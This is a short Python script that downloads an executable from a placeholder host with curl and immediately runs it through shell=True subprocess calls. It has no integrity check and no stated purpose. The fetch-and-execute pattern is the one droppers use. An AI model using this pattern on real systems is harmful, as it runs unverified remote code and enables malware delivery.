import subprocess

subprocess.Popen(["cd C:/ && curl https://files.example.org/tool.exe -o tool.exe"], shell=True)
subprocess.Popen(["C:/tool.exe"], shell=True)
